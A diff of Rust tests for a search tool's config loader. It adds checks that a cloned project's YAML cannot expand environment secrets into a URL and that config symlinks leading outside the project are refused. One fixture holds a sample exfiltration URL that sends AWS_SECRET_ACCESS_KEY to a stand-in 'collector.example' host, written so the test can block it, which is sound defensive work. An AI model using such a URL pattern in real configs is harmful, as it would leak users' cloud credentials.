@@ -63,14 +63,34 @@ fn ollama_url_alias_yields_to_the_canonical_variable() {
 
 #[test]
 fn yaml_substitution_feeds_typed_values() {
-    let fx = Fixture::new(Some("search:\n  resultLimit: ${LIMIT:-12}\ndatabase:\n  url: postgresql://u:${PW}@h/db\n"));
-    let cfg = fx.resolve(&[("PW", "hunter2")], &[]).expect("resolves");
+    let fx = Fixture::new(Some(
+        "search:\n  resultLimit: ${COCOSEARCH_LIMIT:-12}\ndatabase:\n  url: postgresql://u:${COCOSEARCH_PW}@h/db\n",
+    ));
+    let cfg = fx.resolve(&[("COCOSEARCH_PW", "hunter2")], &[]).expect("resolves");
     assert_eq!(cfg.settings.search.result_limit, 12);
     assert_eq!(cfg.settings.database.url, "postgresql://u:hunter2@h/db");
     let shown = cfg.entries().into_iter().find(|e| e.key == "database.url").and_then(|e| e.value).expect("value");
     assert_eq!(shown, serde_json::json!("postgresql://u:***@h/db"));
     let err = fx.resolve(&[], &[]).expect_err("PW unset");
-    assert!(err.to_string().contains("environment variable PW is not set"), "{err}");
+    assert!(err.to_string().contains("environment variable COCOSEARCH_PW is not set"), "{err}");
+}
+
+#[test]
+fn a_project_file_cannot_read_other_environment_variables() {
+    // A cloned repository's own file must not copy secrets from the environment into a URL
+    // it controls; a file the user names may.
+    let yaml = "embedding:\n  baseUrl: http://collector.example/?k=${AWS_SECRET_ACCESS_KEY}\n";
+    let fx = Fixture::new(Some(yaml));
+    let secret = [("AWS_SECRET_ACCESS_KEY", "s3cr3t")];
+    let err = fx.resolve(&secret, &[]).expect_err("refused");
+    let text = err.to_string();
+    assert!(text.contains("${AWS_SECRET_ACCESS_KEY} is not expanded") && text.contains("--config"), "{text}");
+    assert!(!text.contains("s3cr3t"), "{text}");
+    let named = fx.dir.path().join("cocosearch.yaml");
+    let env = Env::from_pairs(secret.iter().map(|(k, v)| (k.to_string(), v.to_string())));
+    let cfg = Config::resolve(&Request { config_file: Some(&named), cwd: fx.dir.path(), overrides: &[], env: &env })
+        .expect("a file named with --config may");
+    assert!(cfg.settings.embedding.effective_base_url().ends_with("s3cr3t"));
 }
 
 #[test]
@@ -128,6 +148,27 @@ fn config_file_is_found_up_to_the_git_root_only() {
     let cfg = Config::resolve(&Request { config_file: None, cwd: &sub, overrides: &[], env: &env }).expect("resolves");
     assert!(cfg.file.is_none());
     assert_eq!(cfg.index_name(), "b");
+}
+
+#[test]
+fn a_config_file_linking_out_of_the_project_is_refused() {
+    let fx = Fixture::new(None);
+    let outside = tempfile::tempdir().expect("tempdir");
+    std::fs::write(outside.path().join("secrets.yaml"), "AWS_SECRET: hunter2\n").expect("write");
+    std::os::unix::fs::symlink(outside.path().join("secrets.yaml"), fx.dir.path().join("cocosearch.yaml"))
+        .expect("symlink");
+    let err = fx.resolve(&[], &[]).expect_err("refused");
+    assert!(matches!(err, ConfigError::LinkOutside(_)), "{err}");
+    assert!(!err.to_string().contains("hunter2") && !err.to_string().contains("AWS_SECRET"), "{err}");
+    // Named explicitly, it is the user's choice.
+    let path = outside.path().join("secrets.yaml").display().to_string();
+    let err = fx.resolve(&[("COCOSEARCH_CONFIG", &path)], &[]).expect_err("unknown key");
+    assert!(!matches!(err, ConfigError::LinkOutside(_)), "{err}");
+    // A link inside the project is fine.
+    std::fs::remove_file(fx.dir.path().join("cocosearch.yaml")).expect("remove");
+    std::fs::write(fx.dir.path().join("real.yaml"), "indexName: linked\n").expect("write");
+    std::os::unix::fs::symlink("real.yaml", fx.dir.path().join("cocosearch.yaml")).expect("symlink");
+    assert_eq!(fx.resolve(&[], &[]).expect("resolves").index_name(), "linked");
 }
 
 #[test]
